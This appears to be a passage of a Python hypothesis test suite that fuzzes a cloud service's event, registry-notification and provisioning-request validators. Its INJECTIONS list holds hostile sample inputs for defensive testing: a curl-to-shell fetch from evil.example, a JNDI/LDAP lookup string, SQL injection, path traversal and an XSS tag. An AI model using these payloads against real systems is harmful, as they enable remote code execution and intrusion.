"""Every decoder and validator, fed thousands of generated and mutated inputs (hypothesis).

Four doors let outside data in: the CloudEvent envelope (``shared.model.events``), Artifact
Registry's notification (``shared.model.images.GarNotification``), the provisioning request
(``shared.model.request``) and the rotation topic's messages with Secret Manager's event
attributes (``shared.workflows.rotation.messages``). For each, the properties are the same:

1. nothing but the project's own rejection ever escapes (no ``KeyError``, ``TypeError``,
   ``RecursionError`` ... that would make Pub/Sub redeliver a bad message until it is
   dead-lettered);
2. a rejection says precisely what is wrong: a non-empty reason that names the field we
   broke;
3. what is accepted is clean: no quote, space, control or shell character of an
   injection-looking input survives into a name the system acts on;
4. the delivery outcome is right when the message goes through
   :func:`shared.app.entrypoint.handle_event` with in-memory fakes: a permanently bad message
   is *returned* (acknowledged) as one published ``rejected`` outcome, a transient failure
   *raises* (redelivery) and publishes nothing.

Runs are derandomized (the same examples on every run) and use no example database, so a
CI failure reproduces locally and the suite writes nothing into the tree.
"""

from __future__ import annotations

import base64
import json
import re
import string
from collections.abc import Callable
from typing import Any

import pytest
from cloudevents.http import CloudEvent
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared.app.entrypoint import handle_event
from shared.core.errors import PermanentError, RejectedMessage, ServiceUnavailable, TransientError
from shared.model.events import (
    MAX_ATTRIBUTES,
    MAX_DATA_BYTES,
    MAX_JSON_DEPTH,
    PubSubMessage,
    from_cloud_event,
    parse_json,
)
from shared.model.images import GarNotification, RegistryImage
from shared.model.record import SecretRecord
from shared.model.request import (
    MAX_REQUEST_BYTES,
    DeprovisionRequest,
    ImageTestRequest,
    InvalidRequest,
    ProvisionRequest,
    RotateRequest,
    StatusRequest,
    parse_request,
)
from shared.model.results import Outcome, Status
from shared.workflows.provisioning.handler import RequestHandler
from shared.workflows.push import PushTester
from shared.workflows.reference_test import ReferenceTest
from shared.workflows.rotation.messages import RotationMessages
from tests.fixtures.policy import AllowEverything
from tests.reliability.figures import record
from tests.unit.fakes import DIGEST, FakeDirectory, FakeKeys, FakeRegistry, FakeSink, integration, key_json


def examples(n: int) -> settings:
    """One profile for every property: ``n`` examples, the same ones every run (derandomized, so a
    CI failure reproduces anywhere), no example database written into the tree, no deadline (a
    loaded CI machine must not turn slowness into a failure)."""
    return settings(
        max_examples=n,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
    )


#: Strings an attacker (or a confused script) might put where a name is expected.
INJECTIONS = (
    "'; DROP TABLE integrations; --",
    '" OR "1"="1',
    "$(curl http://evil.example/x.sh | sh)",
    "`id`",
    "../../../etc/passwd",
    "..%2f..%2fsecrets",
    "<script>alert(1)</script>",
    "name\nFORGED LOG LINE severity=ERROR",
    "carriage\rreturn",
    "nul\x00byte",
    "rtl\u202eoverride",
    "{{7*7}}${jndi:ldap://evil.example/a}",
    "space in name",
    "semi;colon",
    "pipe|pipe",
    "projects/other/secrets/stolen",
    "back\\slash",
    "tab\tbed",
    "ünïcödé",
    "@evil.example",
    "-leading-dash",
    "UPPER-case",
    "x" * 600,
)
#: Characters no accepted name may carry (everything an injection above relies on).
DANGEROUS = set(" \t\r\n\x00'\"`$;|<>\\{}\u202e") | {chr(c) for c in range(0x20)}

HOST = "us-central1-docker.pkg.dev"
#: Characters for generated free text: printable ASCII plus control, bidi and non-ASCII ones.
#: (Full-Unicode text is five times slower to generate and finds nothing more here.)
TEXT = string.printable + "\x00\x1b\x7f\u00e9\u00fc\u202e\u2028\u4e2d\U0001f600"
LOWER, DIGITS = string.ascii_lowercase, string.digits


def text(max_size: int, min_size: int = 0) -> st.SearchStrategy[str]:
    return st.text(TEXT, min_size=min_size, max_size=max_size)


def word(first: str, rest: str, last: str = "", *, min_rest: int = 0, max_rest: int = 20) -> st.SearchStrategy[str]:
    """``first`` char, then ``rest`` chars, then an optional ``last`` char: a pattern-shaped name."""
    return st.builds(
        lambda a, b, c: a + b + c,
        st.sampled_from(first),
        st.text(rest, min_size=min_rest, max_size=max_rest),
        st.sampled_from(last) if last else st.just(""),
    )


json_scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | text(12)
#: JSON values two levels deep (hypothesis' recursive strategies cost twice as much and
#: nesting is exercised on its own by the depth property).
json_values = st.one_of(
    json_scalars,
    st.lists(json_scalars, max_size=3),
    st.dictionaries(text(6), json_scalars, max_size=3),
    st.dictionaries(text(6), st.lists(json_scalars, max_size=2), max_size=2),
)
non_strings = st.one_of(
    st.integers(),
    st.floats(allow_nan=False),
    st.booleans(),
    st.lists(json_scalars, max_size=2),
    st.dictionaries(text(3), json_scalars, max_size=2),
)
hostile_text = st.sampled_from(INJECTIONS) | text(24)


def b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


class Delivered:
    """What handle_event did with one event: the outcome it returned, or the error it raised."""

    def __init__(self, kind: str, event: Any, workflow: Callable[[PubSubMessage], Outcome]) -> None:
        self.sink = FakeSink()
        self.outcome: Outcome | None = None
        self.raised: BaseException | None = None
        try:
            self.outcome = handle_event(kind, event, workflow, self.sink)
        except TransientError as exc:
            self.raised = exc

    def acknowledged(self, status: Status) -> Outcome:
        assert self.raised is None, f"raised {self.raised!r} for a permanent outcome"
        assert self.outcome is not None and self.outcome.status is status, self.outcome
        assert self.sink.outcomes == [self.outcome], "exactly one result must be published"
        return self.outcome

    def redelivered(self) -> None:
        assert isinstance(self.raised, TransientError), self.outcome
        assert self.sink.outcomes == [], "a transient failure must publish nothing"


def assert_precise(reason: str, *fields: str) -> None:
    assert reason and reason.strip(), "a rejection needs a reason"
    assert any(f in reason for f in fields), f"reason {reason!r} names none of {fields}"
    assert len(reason) < 2000, "a rejection reason must stay readable (and bounded)"


# -- CloudEvent envelopes ---------------------------------------------------------------------------


def _envelope(
    data: bytes, attributes: dict[str, str], id_field: str, message_id: str
) -> tuple[dict[str, Any], bytes, dict[str, str]]:
    message = {"data": b64(data), "attributes": attributes, id_field: message_id, "publishTime": "2026-01-01T00:00:00Z"}
    return {"message": message, "subscription": "projects/p/subscriptions/s"}, data, attributes


#: A well-formed Pub/Sub push body, its decoded data and attributes.
envelopes = st.builds(
    _envelope,
    st.binary(max_size=160) | json_values.map(lambda v: json.dumps(v).encode()),
    st.dictionaries(text(12, min_size=1), text(24), max_size=6),
    st.sampled_from(["messageId", "message_id"]),
    st.text(DIGITS, min_size=1, max_size=12),
)


def ok_workflow(message: PubSubMessage) -> Outcome:
    return Outcome("probe", Status.OK, f"{len(message.data)} bytes")


@examples(500)
@given(envelopes, st.sampled_from(["dict", "bytes", "text", "cloudevent"]))
def test_every_wellformed_envelope_decodes_the_same_in_every_form(envelope: Any, form: str) -> None:
    record("bad input: CloudEvent envelopes", inputs=1)
    body, data, attributes = envelope
    event: Any = {
        "dict": body,
        "bytes": json.dumps(body).encode(),
        "text": json.dumps(body),
        "cloudevent": CloudEvent(
            {"type": "google.cloud.pubsub.topic.v1.messagePublished", "source": "//x", "id": "ce"}, body
        ),
    }[form]
    message = from_cloud_event(event)
    assert message.data == data and dict(message.attributes) == attributes
    assert message.message_id  # from the message, or the CloudEvent id
    Delivered("probe", event, ok_workflow).acknowledged(Status.OK)


def _not_base64(text: str) -> bool:
    return any(c not in string.ascii_letters + string.digits + "+/=_-" for c in text)


def _with_message(body: dict[str, Any], **changes: Any) -> dict[str, Any]:
    return {**body, "message": {**body["message"], **changes}}


#: name -> (a strategy of functions that break a body, words the rejection must contain one of)
ENVELOPE_MUTATIONS: dict[str, tuple[st.SearchStrategy[Callable[[dict[str, Any]], Any]], tuple[str, ...]]] = {
    "body is not an object": (
        (st.lists(json_scalars, max_size=3) | st.integers() | st.booleans() | st.none()).map(lambda v: lambda body: v),
        ("event data",),
    ),
    "message missing or not an object": (
        (non_strings.filter(lambda v: not isinstance(v, dict)) | st.none()).map(
            lambda v: lambda body: {**body, "message": v}
        ),
        ("'message'",),
    ),
    "data of the wrong JSON type": (
        non_strings.filter(lambda v: v not in ("", None)).map(lambda v: lambda body: _with_message(body, data=v)),
        ("message.data",),
    ),
    "data that is not base64": (
        text(40, min_size=1).filter(_not_base64).map(lambda v: lambda body: _with_message(body, data=v)),
        ("message.data",),
    ),
    "data with padding in the middle": (
        st.binary(min_size=1, max_size=20).map(
            lambda v: lambda body: _with_message(body, data=b64(b"abcd") + "=" + b64(v))
        ),
        ("message.data",),
    ),
    "data far over the size limit": (
        st.integers(2, 20_000).map(lambda n: lambda body: _with_message(body, data="QUFB" * (MAX_DATA_BYTES // 3 + n))),
        ("message.data", "event body"),  # as raw bytes, the whole body is over the limit first
    ),
    "attributes not an object": (
        non_strings.filter(lambda v: not isinstance(v, dict)).map(
            lambda v: lambda body: _with_message(body, attributes=v)
        ),
        ("message.attributes",),
    ),
    "an attribute value that is not a string": (
        st.tuples(text(8, min_size=1), non_strings | st.none()).map(
            lambda kv: lambda body: _with_message(body, attributes={"ok": "x", kv[0]: kv[1]})
        ),
        ("attribute values",),
    ),
    "too many attributes": (
        st.integers(MAX_ATTRIBUTES + 1, 4 * MAX_ATTRIBUTES).map(
            lambda n: lambda body: _with_message(body, attributes={f"a{i}": "v" for i in range(n)})
        ),
        ("attributes",),
    ),
}
MUTATION_NAMES = st.sampled_from(sorted(ENVELOPE_MUTATIONS))


@examples(1000)
@given(st.data(), MUTATION_NAMES, st.booleans())
def test_every_broken_envelope_is_rejected_naming_the_field_and_acknowledged(
    data: st.DataObject, mutation: str, as_bytes: bool
) -> None:
    record("bad input: CloudEvent envelopes", inputs=1)
    body, _, _ = data.draw(envelopes)
    mutations, fields = ENVELOPE_MUTATIONS[mutation]
    broken = data.draw(mutations)(body)
    event = json.dumps(broken).encode() if as_bytes else broken
    with pytest.raises(RejectedMessage) as caught:
        from_cloud_event(event)
    assert_precise(caught.value.reason, *fields)
    calls: list[PubSubMessage] = []

    def workflow(message: PubSubMessage) -> Outcome:
        calls.append(message)
        return ok_workflow(message)

    outcome = Delivered("probe", event, workflow).acknowledged(Status.REJECTED)
    assert outcome.reason == caught.value.reason and calls == []


def _mutate_bytes(envelope: tuple[dict[str, Any], bytes, dict[str, str]], edits: list[tuple[str, int, bytes]]) -> bytes:
    raw = bytearray(json.dumps(envelope[0]).encode())
    for op, at, chunk in edits:
        at = at % max(len(raw), 1)
        if op == "flip" and raw:
            raw[at] = chunk[0]
        elif op == "cut":
            del raw[at:]
        elif op == "insert":
            raw[at:at] = chunk
        else:
            raw[at:at] = raw[at : at + len(chunk) * 5]
    return bytes(raw)


#: A well-formed envelope's JSON with bytes flipped, cut, inserted or duplicated.
byte_mutations = st.builds(
    _mutate_bytes,
    envelopes,
    st.lists(
        st.tuples(
            st.sampled_from(["flip", "cut", "insert", "duplicate"]),
            st.integers(0, 10_000),
            st.binary(min_size=1, max_size=8),
        ),
        min_size=1,
        max_size=4,
    ),
)


@examples(600)
@given(byte_mutations)
def test_byte_level_mutations_never_escape_as_anything_but_a_rejection(raw: bytes) -> None:
    record("bad input: CloudEvent envelopes", inputs=1)
    try:
        message = from_cloud_event(raw)
    except RejectedMessage as exc:
        assert_precise(exc.reason, "event body", "event data", "message")
        Delivered("probe", raw, ok_workflow).acknowledged(Status.REJECTED)
    else:
        assert isinstance(message.data, bytes)
        assert all(isinstance(k, str) and isinstance(v, str) for k, v in message.attributes.items())


@examples(300)
@given(st.integers(1, 20_000), st.sampled_from(["array", "object"]))
def test_json_nesting_is_bounded_before_the_parser_recurses(depth: int, shape: str) -> None:
    record("bad input: CloudEvent envelopes", inputs=1)
    text = "[" * depth + "1" + "]" * depth if shape == "array" else '{"a":' * depth + "1" + "}" * depth
    raw = text.encode()
    if len(raw) > MAX_DATA_BYTES:
        with pytest.raises(RejectedMessage, match="the limit is"):
            parse_json(raw, what="message data")
    elif depth > MAX_JSON_DEPTH:
        with pytest.raises(RejectedMessage, match="deeper than"):
            parse_json(raw, what="message data")
    else:
        assert parse_json(raw, what="message data") is not None


@examples(200)
@given(st.integers(1, 60_000), st.sampled_from(["integer", "negative", "exponent", "float"]))
def test_numbers_of_any_length_are_parsed_or_rejected_never_raised(digits: int, shape: str) -> None:
    """CPython refuses to convert an integer of more than 4300 digits with a bare ValueError."""
    record("bad input: CloudEvent envelopes", inputs=1)
    number = {
        "integer": "7" * digits,
        "negative": "-" + "7" * digits,
        "exponent": "1e" + "9" * min(digits, 400),
        "float": "0." + "3" * digits,
    }[shape]
    raw = b'{"action": "INSERT", "tag": ' + number.encode() + b"}"
    event = {"message": {"data": b64(raw), "messageId": "m-1"}}
    try:
        PubSubMessage(data=raw).json()
    except RejectedMessage as exc:
        assert_precise(exc.reason, "message data")
        Delivered("reference-test", event, push_world().handle).acknowledged(Status.REJECTED)
    else:
        # Parsed: the notification then refuses a number where a string belongs.
        Delivered("reference-test", event, push_world().handle).acknowledged(Status.REJECTED)


@examples(50)
@given(st.integers(MAX_DATA_BYTES - 3, MAX_DATA_BYTES + 3))
def test_data_near_the_size_limit_is_refused_by_the_envelope_or_by_the_parser(size: int) -> None:
    record("bad input: CloudEvent envelopes", inputs=1)
    payload = b'"' + b"a" * (size - 2) + b'"'
    try:
        message = from_cloud_event({"message": {"data": b64(payload)}})
        decoded = message.json()
    except RejectedMessage as exc:
        assert size > MAX_DATA_BYTES, f"{size} bytes are within the limit yet were rejected: {exc.reason}"
        assert_precise(exc.reason, "limit")
    else:
        assert size <= MAX_DATA_BYTES and decoded == "a" * (size - 2)


# -- GAR notifications ---------------------------------------------------------------------------------

component = st.one_of(
    word(LOWER + DIGITS, LOWER + DIGITS, max_rest=7),
    st.builds("{}{}{}".format, word(LOWER, LOWER, max_rest=4), st.sampled_from("._-"), word(DIGITS, LOWER, max_rest=4)),
)
valid_tag = word(string.ascii_letters + DIGITS + "_", string.ascii_letters + DIGITS + "_.-", max_rest=24)
valid_digest = st.binary(min_size=32, max_size=32).map(lambda b: "sha256:" + b.hex())
valid_host = st.sampled_from(
    [HOST, "europe-docker.pkg.dev", "localhost:5000", "127.0.0.1:5000", "registry.example.com"]
)


def sometimes_hostile(valid: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.one_of(valid, valid, valid, hostile_text)


def _reference(host: str, project: str, repository: str, image: list[str], keep: int, tag: str, digest: str) -> str:
    parts = [p for i, p in enumerate((host, project, repository, "/".join(image))) if p or keep & (1 << i)]
    return "/".join(parts) + tag + digest


#: ``HOST/PROJECT/REPO/IMAGE[:TAG][@DIGEST]`` with some parts hostile or missing.
references = st.builds(
    _reference,
    sometimes_hostile(valid_host),
    st.one_of(st.just("proj"), sometimes_hostile(component)),
    st.one_of(st.just("images"), sometimes_hostile(component)),
    st.lists(sometimes_hostile(component), max_size=3),
    st.integers(0, 15),
    st.one_of(st.just(""), sometimes_hostile(valid_tag).map(lambda t: ":" + t)),
    st.one_of(
        st.just(""),
        st.one_of(valid_digest, valid_digest, st.sampled_from(["sha256:abc", "md5:" + "0" * 32]), hostile_text).map(
            lambda d: "@" + d
        ),
    ),
)
reference_or_junk = st.one_of(references, references, non_strings, hostile_text)


def _notification(fields: dict[str, Any], extra: dict[str, Any]) -> dict[str, Any]:
    return {**extra, **fields}


#: ``{"action", "digest", "tag"}`` with each member absent, of the wrong type, hostile or a reference.
notifications = st.builds(
    _notification,
    st.fixed_dictionaries(
        {},
        optional={
            "action": st.one_of(
                st.sampled_from(["INSERT", "INSERT", "DELETE"]),
                st.sampled_from(["insert", "", "PUSH"]),
                non_strings,
                st.none(),
            ),
            "digest": reference_or_junk,
            "tag": reference_or_junk,
        },
    ),
    st.dictionaries(text(8, min_size=1), json_values, max_size=1),
)


def _is_clean(image: RegistryImage) -> bool:
    text = str(image)
    return text.isascii() and not (set(text) & DANGEROUS)


def _action_ok(payload: dict[str, Any]) -> bool:
    return payload.get("action") in ("INSERT", "DELETE")


def push_world(*, down: bool = False) -> PushTester:
    registry = FakeRegistry(images={(HOST, "proj/images/app"): {"v1": DIGEST}}, valid_keys={"k1"}, down=down)
    keys = FakeKeys({"dataloop-gar-team-a": {1: key_json("k1")}})
    return PushTester(FakeDirectory([integration()]), keys, ReferenceTest(registry))


@examples(1500)
@given(notifications)
def test_gar_notifications_are_accepted_clean_or_rejected_precisely(payload: dict[str, Any]) -> None:
    record("bad input: GAR notifications", inputs=1)
    try:
        notification = GarNotification.from_json(payload)
    except RejectedMessage as exc:
        if not _action_ok(payload):
            assert_precise(exc.reason, "action")
        else:
            assert_precise(exc.reason, "digest", "tag", "image reference")
        outcome = Delivered("reference-test", _event(payload), push_world().handle).acknowledged(Status.REJECTED)
        assert outcome.reason == exc.reason
        return
    assert notification.action in ("INSERT", "DELETE")
    assert _is_clean(notification.image), notification.image
    assert RegistryImage.parse(str(notification.image)) == notification.image  # what we test is what we log
    if isinstance(payload.get("digest"), str) and payload["digest"]:
        assert notification.image.digest and payload["digest"].endswith(notification.image.digest)
    delivered = Delivered("reference-test", _event(payload), push_world().handle)
    assert delivered.raised is None and delivered.outcome is not None
    assert delivered.outcome.status in {Status.PASSED, Status.FAILED, Status.SKIPPED, Status.IGNORED, Status.UNCOVERED}
    assert delivered.sink.outcomes == [delivered.outcome]


@examples(500)
@given(notifications)
def test_a_registry_outage_asks_for_redelivery_exactly_when_a_covered_image_needed_testing(
    payload: dict[str, Any],
) -> None:
    record("bad input: GAR notifications", inputs=1)
    try:
        notification = GarNotification.from_json(payload)
    except RejectedMessage:
        Delivered("reference-test", _event(payload), push_world(down=True).handle).acknowledged(Status.REJECTED)
        return
    image = notification.image
    needs_registry = (
        notification.is_insert
        and integration().covers(image)
        and not (image.tag and re.fullmatch(r".*\.(sig|att|sbom)", image.tag))
    )
    delivered = Delivered("reference-test", _event(payload), push_world(down=True).handle)
    if needs_registry:
        delivered.redelivered()
    else:
        assert delivered.raised is None and delivered.outcome is not None
        assert delivered.outcome.status in {Status.IGNORED, Status.SKIPPED, Status.UNCOVERED}


def _event(payload: Any) -> dict[str, Any]:
    return {"message": {"data": b64(json.dumps(payload).encode()), "messageId": "m-1"}}


@examples(700)
@given(st.one_of(references, hostile_text, text(80)))
def test_image_references_parse_clean_and_round_trip_or_are_refused(reference: str) -> None:
    record("bad input: GAR notifications", inputs=1)
    try:
        image = RegistryImage.parse(reference)
    except RejectedMessage as exc:
        assert_precise(exc.reason, "image reference")
        return
    assert _is_clean(image) and RegistryImage.parse(str(image)) == image


# -- provisioning requests ----------------------------------------------------------------------------

name_text = word(LOWER, LOWER + DIGITS + "-", LOWER + DIGITS, min_rest=1)
project_text = word(LOWER, LOWER + DIGITS, LOWER + DIGITS, min_rest=4, max_rest=14)
repository_text = word(LOWER, LOWER + DIGITS + "-", LOWER + DIGITS, max_rest=10)
org_text = word(string.ascii_letters + DIGITS, string.ascii_letters + DIGITS + "-")
request_id_text = word(string.ascii_letters + DIGITS, string.ascii_letters + DIGITS + "._:-", max_rest=30)
#: Injection strings that no field pattern accepts (all carry a character outside every pattern).
BAD_NAMES = tuple(s for s in INJECTIONS if set(s) & (DANGEROUS | set("/@%.*!?#(){}[]ü")) or len(s) > 200)


def _provision(
    project: str,
    location: str,
    repositories: list[str],
    name: str,
    org_id: str,
    account: str,
    by_email: bool,
    optional: int,
    digest: str,
    period: float,
) -> dict[str, Any]:
    host = f"{location}-docker.pkg.dev"
    body: dict[str, Any] = {
        "name": name,
        "org_id": org_id,
        "project": project,
        "location": location,
        "repositories": repositories,
        "service_account": {"email": f"{account}@{project}.iam.gserviceaccount.com"}
        if by_email
        else {"create": account},
    }
    if optional & 1:
        body["registry_host"] = host
    if optional & 2:
        body["test_image"] = f"{host}/{project}/{repositories[0]}/app:v1"
    if optional & 4:
        body["canary"] = {"image": f"{host}/{project}/{repositories[-1]}/canary@{digest}", "service_id": "svc-1"}
    if optional & 8:
        body["rotation_period_days"] = period
    return body


def _flags(names: tuple[str, ...]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries({}, optional={n: st.booleans() for n in names})


ACTION_BODIES: dict[str, st.SearchStrategy[dict[str, Any]]] = {
    "provision": st.builds(
        _provision,
        project_text,
        st.sampled_from(["us-central1", "europe-west4", "us"]),
        st.lists(repository_text, min_size=1, max_size=4, unique=True),
        name_text,
        org_text,
        word(LOWER, LOWER + DIGITS + "-", LOWER + DIGITS, min_rest=4),
        st.booleans(),
        st.integers(0, 15),
        valid_digest,
        st.floats(1 / 24, 3650),
    ),
    "deprovision": st.builds(lambda n, f: {"name": n, **f}, name_text, _flags(("keep_secret",))),
    "rotate": st.builds(lambda n, f: {"name": n, **f}, name_text, _flags(("force", "dry_run"))),
    "test": st.builds(
        lambda p, r, n: {"image": f"{HOST}/{p}/{r}/app:v1", **n},
        project_text,
        repository_text,
        st.fixed_dictionaries({}, optional={"name": name_text}),
    ),
    "status": st.fixed_dictionaries({}, optional={"name": name_text}),
}
_request_ids = st.fixed_dictionaries({}, optional={"request_id": request_id_text})
#: A valid request of any action (provision twice as often: it has the most fields).
valid_requests = st.one_of(
    [
        st.builds(
            lambda body, rid, action=action: {"version": 1, "action": action, **rid, **body},
            ACTION_BODIES[action],
            _request_ids,
        )
        for action in ("provision", "provision", "deprovision", "rotate", "test", "status")
    ]
)


STRING_FIELDS = {
    "provision": ("name", "org_id", "project", "location", "registry_host", "test_image"),
    "deprovision": ("name",),
    "rotate": ("name",),
    "test": ("name", "image"),
    "status": ("name",),
}
REQUIRED = {
    "provision": ("name", "org_id", "project", "location", "repositories", "service_account"),
    "deprovision": ("name",),
    "rotate": ("name",),
    "test": ("image",),
    "status": (),
}
BOOLEANS = {"deprovision": ("keep_secret",), "rotate": ("force", "dry_run")}


_OPS = st.sampled_from(
    ["drop required", "wrong type", "inject", "unknown field", "nested", "version", "action", "request id"]
)
_REQUIRED_FIELD = {action: st.sampled_from(fields) for action, fields in REQUIRED.items() if fields}
_TYPED_FIELD = {action: st.sampled_from(STRING_FIELDS[action] + BOOLEANS.get(action, ())) for action in STRING_FIELDS}
_STRING_FIELD = {action: st.sampled_from(fields) for action, fields in STRING_FIELDS.items()}
_NOT_A_STRING = non_strings.filter(lambda v: not isinstance(v, str))
_NOT_A_BOOLEAN = text(5) | st.integers()
_BAD_NAME = st.sampled_from(BAD_NAMES)
_UNKNOWN_KEY = st.sampled_from(["extra", "Name", "force_all", "x.y", *INJECTIONS[:4]])
_NESTED = st.sampled_from(["repositories", "service_account", "canary"])
_BAD_VERSION = st.sampled_from([0, 2, "1", 1.5, None, True])
_BAD_ACTION = st.sampled_from(["Provision", "delete", "", "rotate;rm", None, 7])
_INDEX = st.integers(0, 3)


@st.composite
def broken_requests(draw: st.DrawFn) -> tuple[dict[str, Any], set[str], set[str]]:
    """A valid request with 1-3 mutations; the JSON-pointer paths each must be reported at, and
    the injected strings that must never be echoed back."""
    body = draw(valid_requests)
    action = body["action"]
    paths: set[str] = set()
    planted: set[str] = set()
    wanted = draw(_INDEX) % 3 + 1
    while len(paths) < wanted:
        op = draw(_OPS)
        if op == "drop required" and action in _REQUIRED_FIELD:
            field = draw(_REQUIRED_FIELD[action])
            body.pop(field, None)
            paths.add(f"/{field}")
        elif op == "wrong type":
            field = draw(_TYPED_FIELD[action])
            body[field] = draw(_NOT_A_STRING if field in STRING_FIELDS[action] else _NOT_A_BOOLEAN)
            paths.add(f"/{field}")
        elif op == "inject":
            field = draw(_STRING_FIELD[action])
            body[field] = draw(_BAD_NAME)
            planted.add(body[field])
            paths.add(f"/{field}")
        elif op == "unknown field":
            key = draw(_UNKNOWN_KEY)
            if key not in body:
                body[key] = draw(json_values)
                paths.add("/" + (key if re.fullmatch(r"[A-Za-z0-9_.-]{1,40}", key) else "<unprintable name>"))
        elif op == "nested" and action == "provision":
            where, bad = draw(_NESTED), draw(_BAD_NAME)
            if where == "repositories" and isinstance(body.get("repositories"), list):
                index = draw(_INDEX) % len(body["repositories"])
                body["repositories"][index] = bad
                paths.add(f"/repositories/{index}")
            elif where == "service_account" and isinstance(body.get("service_account"), dict):
                key = next(iter(body["service_account"]))
                body["service_account"] = {key: bad}
                paths.add(f"/service_account/{key}")
            elif where == "canary":
                body["canary"] = {"image": bad}
                paths.add("/canary/image")
            else:
                continue
            planted.add(bad)
        elif op == "version":
            body["version"] = draw(_BAD_VERSION)
            paths.add("/version")
        elif op == "action":
            body["action"] = draw(_BAD_ACTION)
            paths.add("/action")
        elif op == "request id":
            body["request_id"] = draw(_BAD_NAME)
            planted.add(body["request_id"])
            paths.add("/request_id")
    if "/action" in paths:  # an unknown action's fields are not checked: only the envelope's are reported
        paths = {p for p in paths if p in ("/action", "/version", "/request_id")}
    return body, paths, planted


class RecordingWorkflows:
    """Stand-in workflows for the request handler: they record what they were asked, or fail."""

    def __init__(self, error: Exception | None = None) -> None:
        self.calls: list[Any] = []
        self.error = error

    def _do(self, request: Any) -> Outcome:
        self.calls.append(request)
        if self.error is not None:
            raise self.error
        return Outcome("request", Status.OK, f"{request.action} done")

    provision = deprovision = rotate = test = status = _do

    def handler(self) -> RequestHandler:
        def rotation() -> Any:
            workflows = self

            class Rotation:
                def rotate(self, secret_id: str, **options: Any) -> Outcome:
                    return workflows._do(RotateRequest(secret_id.removeprefix("dataloop-gar-")))

            return Rotation()

        return RequestHandler(
            provisioner=lambda: self,  # type: ignore[arg-type,return-value]
            deprovisioner=lambda: self,  # type: ignore[arg-type,return-value]
            rotation=rotation,
            image_check=lambda: self,  # type: ignore[arg-type,return-value]
            status=lambda: self,  # type: ignore[arg-type,return-value]
            policy=AllowEverything(),
        )


REQUEST_TYPES = {
    "provision": ProvisionRequest,
    "deprovision": DeprovisionRequest,
    "rotate": RotateRequest,
    "test": ImageTestRequest,
    "status": StatusRequest,
}


@examples(500)
@given(valid_requests)
def test_every_valid_request_is_accepted_and_dispatched_once(body: dict[str, Any]) -> None:
    record("bad input: provisioning requests", inputs=1)
    request = parse_request(json.dumps(body).encode())
    assert isinstance(request, REQUEST_TYPES[body["action"]])
    assert request.request_id == body.get("request_id")
    workflows = RecordingWorkflows()
    outcome = Delivered("request", _event(body), workflows.handler().handle).acknowledged(Status.OK)
    assert len(workflows.calls) == 1 and outcome.request_id == body.get("request_id")


@examples(1200)
@given(broken_requests())
def test_every_broken_request_names_each_broken_field_and_echoes_no_injected_value(case: Any) -> None:
    record("bad input: provisioning requests", inputs=1)
    body, paths, planted = case
    with pytest.raises(InvalidRequest) as caught:
        parse_request(json.dumps(body).encode())
    errors = caught.value.errors
    assert errors and all(re.match(r"^/[^:]*: \S", line) or line.startswith("... and ") for line in errors), errors
    for path in paths:
        assert any(line.startswith(f"{path}:") for line in errors), f"no error at {path}: {errors}"
    for value in planted:
        assert value not in caught.value.reason, "a rejected value was echoed into the reason"
    workflows = RecordingWorkflows()
    outcome = Delivered("request", _event(body), workflows.handler().handle).acknowledged(Status.REJECTED)
    assert workflows.calls == [] and outcome.details["errors"] == errors
    rid = body.get("request_id")
    assert outcome.request_id == (rid if "/request_id" not in paths and isinstance(rid, str) else None)


@examples(400)
@given(
    st.one_of(
        st.binary(max_size=300),
        byte_mutations,
        st.integers(MAX_REQUEST_BYTES + 1, MAX_DATA_BYTES).map(lambda n: b" " * n),
    )
)
def test_raw_request_bytes_are_accepted_or_rejected_at_the_root(raw: bytes) -> None:
    record("bad input: provisioning requests", inputs=1)
    try:
        parse_request(raw)
    except InvalidRequest as exc:
        assert exc.errors and all(line.startswith("/") for line in exc.errors)
        if len(raw) > MAX_REQUEST_BYTES:
            assert "the limit is" in exc.reason
    else:
        pytest.fail(f"random bytes made a valid request: {raw[:80]!r}")


@examples(200)
@given(valid_requests, st.sampled_from(["transient", "permanent"]))
def test_a_valid_request_whose_workflow_fails_is_redelivered_only_if_transient(body: dict[str, Any], kind: str) -> None:
    record("bad input: provisioning requests", inputs=1)
    error = (
        ServiceUnavailable("Secret Manager unavailable") if kind == "transient" else PermanentError("refused", code="x")
    )
    delivered = Delivered("request", _event(body), RecordingWorkflows(error).handler().handle)
    if kind == "transient":
        delivered.redelivered()
    else:
        assert delivered.acknowledged(Status.FAILED).request_id == body.get("request_id")


# -- rotation topic and Secret Manager event attributes ---------------------------------------------------

secret_id_text = st.text(string.ascii_letters + DIGITS + "_-", min_size=1, max_size=60)
EVENT_TYPES = [
    "SECRET_ROTATE",
    "SECRET_ROTATE",
    "SECRET_VERSION_ADD",
    "SECRET_UPDATE",
    "TOPIC_CONFIGURED",
    "SECRET_DELETE",
]


class RotationFakes:
    """A rotator, a sweeper and the secret store the router reads, recording every call."""

    def __init__(self, managed: set[str], *, store_error: Exception | None = None) -> None:
        self.managed = managed
        self.store_error = store_error
        self.rotations: list[tuple[str, dict[str, Any]]] = []
        self.sweeps: list[dict[str, Any]] = []

    def rotate(self, secret_id: str, **options: Any) -> Outcome:
        self.rotations.append((secret_id, options))
        return Outcome("rotation", Status.OK, f"rotated {secret_id}")

    def run(self, **options: Any) -> Outcome:
        self.sweeps.append(options)
        return Outcome("rotation-sweep", Status.OK, "swept")

    def get_secret(self, secret_id: str) -> SecretRecord:
        if self.store_error is not None:
            raise self.store_error
        if secret_id == "gone":
            raise PermanentError(f"secret {secret_id} not found", code="not-found")
        labels = {"managed-by": "dataloop-gar"} if secret_id in self.managed else {}
        return SecretRecord(name=f"projects/1/secrets/{secret_id}", labels=labels)

    def router(self) -> RotationMessages:
        return RotationMessages(self, self, self)  # type: ignore[arg-type]


_EVENT_TYPE = st.one_of(st.sampled_from(EVENT_TYPES), hostile_text)
_SECRET_NAME = st.one_of(
    st.one_of(secret_id_text, st.sampled_from(["dataloop-gar-team-a", "gone"])).map(
        lambda i: f"projects/123/secrets/{i}"
    ),
    st.one_of(secret_id_text, st.sampled_from(["dataloop-gar-team-a", "gone"])).map(
        lambda i: f"projects/123/secrets/{i}"
    ),
